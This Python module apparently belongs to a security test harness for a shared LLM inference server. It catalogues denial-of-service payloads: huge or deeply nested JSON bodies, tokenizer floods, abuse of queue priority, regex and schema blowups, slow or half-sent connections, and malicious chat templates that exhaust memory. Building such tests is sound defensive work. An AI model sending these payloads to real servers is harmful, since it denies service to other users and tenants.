"""Assaults that one tenant can make on a shared server, as data. Each assault names the resource that it uses up.

An assault is an endless series of HTTP requests, made by many connections as fast as the answers come, or by
connections that misbehave: that never read, close at once, or send one byte at a time."""

import itertools
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import Enum
from typing import Any

# Just under --payload-limit, whose default is 2,000,000 bytes.
LARGEST = 1_990_000
LONG_TEXT = "The fox went out on a chilly night, and prayed for the moon to give him light. "
EVERYTHING = 1_000_000  # more tokens than any server's KV cache has: a request for them is refused


class Manner(Enum):
    """How a connection sends its request and reads the answer."""

    WAIT = "sends a request and reads the answer, again and again"
    NEVER_READ = "sends a request and reads nothing"
    HANG_UP = "sends a request, reads the first bytes of the answer, closes"
    CLOSE_AT_ONCE = "sends a request and closes"
    DRIP = "sends a request a byte at a time"
    HALF = "sends all but the last byte of a request, and waits"
    CONNECT = "connects and closes"


Requests = Callable[[str], Iterator[bytes]]  # makes an endless series of requests with the attacker's key


@dataclass(frozen=True, slots=True)
class Assault:
    name: str
    resource: str  # the resource that the assault takes from other tenants
    requests: Requests
    connections: int = 16
    manner: Manner = Manner.WAIT
    chat_template: str | None = None  # chat template of the served model; None: the demo model's own


def head(method: str, path: str, key: str, *more: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "host: server", f"authorization: Bearer {key}", "connection: close", *more]
    return "\r\n".join([*lines, "", ""]).encode()


def post(path: str, key: str, body: bytes, *more: str) -> bytes:
    return head("POST", path, key, "content-type: application/json", f"content-length: {len(body)}", *more) + body


def repeat(path: str, body: Any, *more: str) -> Requests:
    """An endless series of the same request. `body`: JSON text as bytes, or a value."""
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    return lambda key: itertools.repeat(post(path, key, content, *more))


def fetch(method: str, path: str, *more: str) -> Requests:
    return lambda key: itertools.repeat(head(method, path, key, *more))


def numbered(path: str, make: Callable[[int], Any], *more: str) -> Requests:
    """An endless series of different requests. `make` makes the body of request i; header lines may contain {i}."""

    def requests(key: str) -> Iterator[bytes]:
        for i in itertools.count():
            yield post(path, key, json.dumps(make(i)).encode(), *(line.format(i=i) for line in more))

    return requests


def filled(before: bytes, item: bytes, after: bytes, size: int = LARGEST) -> bytes:
    """A JSON text of about `size` bytes whose list has as many items as fit."""
    count = (size - len(before) - len(after)) // (len(item) + 1)
    return before + b",".join([item] * count) + after


def text(inputs: str, **parameters: Any) -> dict[str, Any]:
    return {"inputs": inputs, "parameters": parameters}


def chat(content: str = "Tell me a story.", **more: Any) -> dict[str, Any]:
    return {"messages": [{"role": "user", "content": content}], **more}


MESSAGE = b'{"role":"user","content":"a"}'
SMALL_CHAT = repeat("/v1/chat/completions", chat(max_tokens=4))


def of_bodies() -> Iterator[Assault]:
    """Bodies that keep the event loop busy: items D2 and D5 of the security review, and similar bodies."""
    generate, chats, completions = "/generate", "/v1/chat/completions", "/v1/completions"
    wrong_stops = filled(b'{"inputs":"a","parameters":{"stop":[', b"1", b"]}}")
    yield Assault("a body of 995,000 wrong stops", "the event loop", repeat(generate, wrong_stops), 1)
    yield Assault("three of them at once", "the event loop, memory", repeat(generate, wrong_stops), 3)
    good_stops = filled(b'{"inputs":"a","parameters":{"stop":[', b'"a"', b"]}}")
    yield Assault("a body of 497,000 good stops", "the event loop", repeat(generate, good_stops), 4)
    empty = filled(b'{"messages":[', b"{}", b"]}")
    yield Assault("messages without fields", "the event loop", repeat(chats, empty), 4)
    long_chat = filled(b'{"messages":[', MESSAGE, b"]}")
    yield Assault("chats of 66,000 messages", "the event loop, templates", repeat(chats, long_chat), 16)
    alternating = filled(b'{"messages":[', MESSAGE + b"," + MESSAGE.replace(b"user", b"assistant"), b"]}")
    yield Assault("chats of 58,000 messages in turns", "templates", repeat(chats, alternating), 16)
    chunks = filled(b'{"messages":[{"role":"user","content":[', b'{"type":"text","text":"a"}', b"]}]}")
    yield Assault("a message of 70,000 chunks", "the event loop", repeat(chats, chunks), 8)
    prompts = filled(b'{"prompt":[', b"1", b"]}")
    yield Assault("a list of wrong prompts", "the event loop", repeat(completions, prompts), 4)
    strings = filled(b'{"prompt":[', b'"a"', b"]}")
    yield Assault("a list of 497,000 prompts", "the event loop, permits", repeat(completions, strings), 4)
    deep = b'{"inputs":' + b"[" * (LARGEST // 2) + b"]" * (LARGEST // 2) + b"}"
    yield Assault("nested lists", "the parser's stack", repeat(generate, deep), 8)
    keys = b'{"inputs":"a",' + b",".join(b'"k%d":0' % i for i in range(150_000)) + b"}"
    yield Assault("150,000 unknown fields", "the event loop, memory", repeat(generate, keys), 8)
    digits = b'{"inputs":' + b"1" * LARGEST + b"}"
    yield Assault("a number of 2,000,000 digits", "the parser", repeat(generate, digits), 8)
    escapes = b'{"inputs":"' + rb"\ud83d\ude00" * (LARGEST // 12) + b'"}'
    yield Assault("165,000 escaped emoji", "the parser", repeat(generate, escapes), 8)
    invalid = b'{"inputs":"' + b"\xff" * LARGEST + b'"}'
    yield Assault("bytes that are not UTF-8", "the parser", repeat(generate, invalid), 8)
    just_below = filled(b'{"messages":[', MESSAGE, b"]}", 65_000)
    yield Assault("chats of 65,000 bytes", "the event loop", repeat(chats, just_below), 16)


def of_texts() -> Iterator[Assault]:
    """Texts that keep the tokenizer and the encoding of answers busy (D4 of the security review)."""
    words, run = LONG_TEXT * (LARGEST // len(LONG_TEXT)), "a" * (LARGEST - 100)
    yield Assault("texts of 2 MB, truncated to 1", "the tokenizer", repeat("/generate", text(words, truncate=1)), 32)
    yield Assault("runs of 2 MB, truncated to 1", "the tokenizer", repeat("/generate", text(run, truncate=1)), 8)
    yield Assault("texts of 2 MB, much too long", "the tokenizer", repeat("/generate", text(words)), 16)
    yield Assault("texts of 2 MB to /tokenize", "the tokenizer, encoding", repeat("/tokenize", {"inputs": words}), 8)
    yield Assault("small texts to /tokenize", "the tokenizer", repeat("/tokenize", {"inputs": LONG_TEXT * 8}), 64)
    stops = text("Once upon a time", stop=["x" * 400_000] * 4, max_new_tokens=64)
    yield Assault("stops of 400,000 characters", "the search for stops", repeat("/generate", stops), 8)
    tops = text("Once", details=True, top_n_tokens=5, max_new_tokens=256, ignore_eos_token=True)
    yield Assault("long answers with best tokens", "encoding of answers", repeat("/generate", tops), 16)


def of_queues() -> Iterator[Assault]:
    """Requests that occupy permits, rows or steps, or that try to change the queue's order (D4 of the security
    review)."""
    long = text("Once upon a time", max_new_tokens=200, ignore_eos_token=True)
    first = text("Once upon a time", max_new_tokens=200, ignore_eos_token=True, priority=-5)
    urgent = text("Once upon a time", max_new_tokens=200, ignore_eos_token=True, priority=-(2**31))
    yield Assault("200 requests open", "permits", repeat("/generate", long), 200)
    yield Assault("120 requests of priority -5", "the queue's order", repeat("/generate", first), 120)
    yield Assault("the best priority there is", "the queue's order", repeat("/generate", urgent), 200)
    tenants = numbered("/generate", lambda i: long, "x-tenant: t{i}")
    yield Assault("a tenant of its own for each request", "shares", tenants, 200)
    prompts = numbered("/generate", lambda i: text(f"{i} " + LONG_TEXT * 40, max_new_tokens=2))
    yield Assault("new long prompts", "steps, the prefix cache", prompts, 64)
    best = text("Once", best_of=2, do_sample=True, max_new_tokens=100, ignore_eos_token=True)
    yield Assault("best of two", "rows", repeat("/generate", best), 64)
    many = {"prompt": ["Once"] * 4, "max_tokens": 100, "ignore_eos": True}
    yield Assault("four prompts a request", "rows", repeat("/v1/completions", many), 64)
    deadlines = text("Once upon a time", max_new_tokens=100, timeout=0.001)
    yield Assault("deadlines of 1 ms", "timers, the queue", repeat("/generate", deadlines), 64)
    options = dict(watermark=True, repetition_penalty=1.3, frequency_penalty=0.5, typical_p=0.9, top_p=0.9, top_k=50)
    sampled = text("Once", do_sample=True, max_new_tokens=200, ignore_eos_token=True, **options)
    yield Assault("every sampling option", "sampling", repeat("/generate", sampled), 100)
    too_long = text("Once", max_new_tokens=EVERYTHING)
    yield Assault("too many new tokens", "validation", repeat("/generate", too_long), 64)
    typed = numbered("/generate", lambda i: text((LONG_TEXT * 40)[: 1 + i % 3000], max_new_tokens=1))
    yield Assault("every keystroke of a text", "the prefix tree", typed, 32)
    salted = numbered("/generate", lambda i: text(LONG_TEXT * 4, max_new_tokens=1, cache_salt=f"s{i}"))
    yield Assault("a cache salt for each request", "the prefix cache's roots", salted, 32)


def of_grammars() -> Iterator[Assault]:
    asked = {"max_new_tokens": 1}

    def schema(number: int) -> dict[str, Any]:
        names = {f"p{number}_{n}": {"$ref": "#"} for n in range(480)}
        return text(LONG_TEXT, **asked, grammar={"type": "json", "value": {"type": "object", "properties": names}})

    def expression(number: int) -> dict[str, Any]:
        return text(
            LONG_TEXT, **asked, grammar={"type": "regex", "value": f"((a{{1,1000}}){{1,1000}}b|x){{1,{number + 1}}}"}
        )

    yield Assault("a new schema of 480 properties", "checks of grammars", numbered("/generate", schema), 16)
    yield Assault("a new expression for each request", "the shard's matchers", numbered("/generate", expression), 16)


def of_connections() -> Iterator[Assault]:
    """Connections that use up sockets and buffers, and requests that are answered without a key or without
    computing."""
    stream = repeat("/generate_stream", text("Once", max_new_tokens=200, ignore_eos_token=True, top_n_tokens=5))
    yield Assault("streams that are never read", "buffers, slots", stream, 64, Manner.NEVER_READ)
    yield Assault("streams that are left at once", "cancelling", stream, 32, Manner.HANG_UP)
    yield Assault("requests that are left unanswered", "cancelling", stream, 32, Manner.CLOSE_AT_ONCE)
    yield Assault("connections without a request", "accepting", fetch("GET", "/"), 32, Manner.CONNECT)
    yield Assault("1,500 requests without an end", "connections", stream, 1500, Manner.HALF)
    yield Assault("200 requests a byte at a time", "the parser", stream, 200, Manner.DRIP)
    yield Assault("/metrics", "the page of metrics", fetch("GET", "/metrics"), 32)
    yield Assault("the OpenAPI document", "its making", fetch("GET", "/api-doc/openapi.json"), 32)
    yield Assault("/info", "the event loop", fetch("GET", "/info"), 32)
    yield Assault("paths that do not exist", "the event loop", fetch("GET", "/no/such/path"), 64)
    yield Assault("wrong keys", "hashing", lambda key: itertools.repeat(head("POST", "/generate", "wrong")), 64)
    large = [f"x-{i}: {'a' * 900}" for i in range(60)]
    yield Assault("54 KB of headers", "the parser", fetch("GET", "/live", *large), 32)
    one_byte = b"".join(b"1\r\n%c\r\n" % byte for byte in b'{"inputs":"' + b"a" * 200_000 + b'"}') + b"0\r\n\r\n"
    chunked = ("content-type: application/json", "transfer-encoding: chunked")
    tiny = lambda key: itertools.repeat(head("POST", "/generate", key, *chunked) + one_byte)  # noqa: E731
    yield Assault("bodies in chunks of 1 byte", "the parser", tiny, 16)
    chats = chat(max_tokens=100, stream=True, logprobs=True, top_logprobs=5, ignore_eos=True)
    yield Assault("chats with log-probabilities", "events", repeat("/v1/chat/completions", chats), 100)


def of_templates() -> Iterator[Assault]:
    """Chats on models with a malicious chat template (D6 of the security review). The victim does not use chats."""
    templates = {
        "loops without output": "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}"
        "{% endfor %}{% endfor %}{% endfor %}",
        "a width in %": "{{ '%1000000000d' % 1 }}",
        "a width in format": "{{ '{:>1000000000}'.format(1) }}",
        "ljust": "{{ 'x'.ljust(10**9) }}",
        "center": "{{ 'x' | center(10**9) }}",
        "indent": "{{ 'x\\nx' | indent(10**9) }}",
        "batch": "{{ [1] | batch(10**8, 'x') | list }}",
        "lipsum": "{{ lipsum(n=100000) }}",
        "tojson": "{{ messages | tojson(indent=10**9) }}",
        "doubling": "{% set n = namespace(s='xxxxxxxx') %}{% for i in range(60) %}{% set n.s = n.s ~ n.s %}"
        "{% endfor %}{{ n.s }}",
    }
    for name, source in templates.items():
        yield Assault(f"template: {name}", "rendering, memory", SMALL_CHAT, 8, chat_template=source)


ASSAULTS: dict[str, Assault] = {
    assault.name: assault
    for assault in itertools.chain(
        of_bodies(), of_texts(), of_queues(), of_grammars(), of_connections(), of_templates()
    )
}
